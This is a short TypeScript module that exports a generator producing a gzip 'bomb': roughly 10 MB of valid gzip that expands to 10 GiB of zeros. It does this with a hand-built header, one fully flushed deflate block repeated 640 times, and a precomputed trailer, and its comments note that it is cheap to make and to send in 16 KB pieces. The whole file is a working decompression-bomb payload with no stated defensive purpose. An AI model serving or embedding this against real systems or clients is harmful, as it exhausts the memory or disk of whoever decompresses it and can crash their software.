import { constants, deflateRawSync } from 'node:zlib';

const blockBytes = 16 * 1024 * 1024;
const blocks = 640;
/** RFC 1952: magic, deflate, no flags, no time, no hints, unknown system. */
const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
/** An empty last block (RFC 1951), then the CRC-32 of 10 GiB of zeros, then their number modulo 2^32. */
const trailer = Buffer.from([0x03, 0x00, 0x2f, 0x91, 0x1d, 0xf4, 0x00, 0x00, 0x00, 0x80]);

/** 10 GiB of zeros as a valid gzip stream of 10 MB; costs one compressed block to make, and 16 KB at a time to send. */
export function* gzipBomb(): Generator<Buffer> {
  yield header;
  // Flushed in full, a block refers to nothing before it, so the same bytes can stand any number of times.
  const block = deflateRawSync(Buffer.alloc(blockBytes), { finishFlush: constants.Z_FULL_FLUSH });
  for (let sent = 0; sent < blocks; sent += 1) yield block;
  yield trailer;
}
